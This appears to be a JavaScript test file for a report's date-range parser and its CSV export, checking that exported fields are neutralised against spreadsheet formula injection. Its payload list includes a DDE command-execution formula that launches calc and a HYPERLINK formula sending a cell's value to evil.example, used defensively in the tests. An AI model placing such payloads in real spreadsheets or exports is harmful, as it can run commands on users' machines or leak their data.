// SPDX-License-Identifier: Apache-2.0
/* Which days are asked for, and that no spreadsheet runs what stands in a table. */
process.env.TZ = "America/New_York"; // a day is Vietnam's wherever it is read
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { test } from "node:test";

import { csvField, csvOf } from "../csv.js";

/* The pages import by address; here the addresses become modules that the function does not need. */
const source = readFileSync(new URL("../report.js", import.meta.url), "utf8").replace(/^import .*$/gm, "").replace(/^const (STATES|badge).*$/gm, "");
const { daysOf } = await import(`data:text/javascript,${encodeURIComponent(`const STATES = [];\n${source}`)}`);

const NOW = Date.UTC(2026, 10, 29, 18) / 1000; // already the 30th in Vietnam

test("the last thirty days where nothing is said, or nothing that makes sense", () => {
  const last = { from: "2026-11-01", to: "2026-11-30" };
  for (const said of [{}, { from: "2026-01-01" }, { from: "x", to: "2026-01-01" }, { from: "2026-02-02", to: "2026-02-01" }, { from: "2025-01-01", to: "2026-02-05" }, { from: "1970-01-01", to: "1970-01-02" }]) assert.deepEqual(daysOf(said, NOW), last);
});

test("both ends are in it, up to 400 days", () => {
  for (const said of [{ from: "2026-02-01", to: "2026-02-01" }, { from: "2025-01-01", to: "2026-02-04" }]) assert.deepEqual(daysOf(said, NOW), said);
});

/* ---- formulas ---- */

/*
 * What Excel, LibreOffice and Google Sheets take for a formula, by their own rules: they unquote the field, pass over what has no width and blanks (LibreOffice trims, Excel passes over controls), and look at
 * the first character; Excel also at the wide forms under an East Asian locale, and older ones begin at a tab or a line end.
 */
function runs(field) {
  assert.match(field, /^"(?:[^"]|"")*"$/s);
  const text = field.slice(1, -1).replaceAll('""', '"');
  const seen = text.replace(/^[\s\p{Cc}\p{Cf}\u00a0]+/u, "");
  return "=+-@\uff1d\uff0b\uff0d\uff20\u2212".includes(seen[0] ?? "x") || "\t\r\n".includes(text[0] ?? "x");
}

const STARTS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212"];
const BEFORE = ["", " ", "\t", "\r", "\n", "\u00a0", "\u200b", "\ufeff", "\u202e", "\u0001", " \t "];
const BODIES = ["1+1", 'cmd|\' /C calc\'!A0', 'HYPERLINK("https://evil.example/?x="&A1,"x")', "SUM(1;2)"];
const PAYLOADS = STARTS.flatMap((start) => BEFORE.flatMap((before) => BODIES.map((body) => `${before}${start}${body}`)));

test("no payload is run, and each is still read", () => {
  assert.ok(PAYLOADS.length >= 200);
  for (const payload of PAYLOADS) {
    assert.ok(runs(`"${payload.replaceAll('"', '""')}"`), `the rule does not know ${JSON.stringify(payload)}`);
    const field = csvField(payload);
    assert.ok(!runs(field), JSON.stringify(payload));
    assert.ok(field.slice(1, -1).replaceAll('""', '"').endsWith(payload));
  }
});

test("a field cannot end itself and begin another", () => {
  for (const text of ['a","=1+1', 'a"\r\n"=1+1', '"', '""']) {
    const field = csvField(text);
    assert.equal(field.slice(1, -1).replaceAll('""', ""), text.replaceAll('"', ""));
    assert.ok(!runs(field));
  }
});

test("ordinary texts and numbers stay what they are", () => {
  for (const text of ["Đại lý An Khang", "2026-11-30", "a=b", "a@b.example", "1-2", "(không qua đại lý)", ""]) assert.equal(csvField(text), `"${text}"`);
  for (const number of [0, 17, -3]) assert.equal(csvField(number), `"${number}"`);
});

test("the whole begins with the mark of UTF-8 and ends its lines as RFC 4180 has it", () => {
  assert.equal(csvOf(["Ngày", "=x"], [["2026-11-30", 7]]), "\ufeff\"Ngày\",\"'=x\"\r\n\"2026-11-30\",\"7\"\r\n");
});
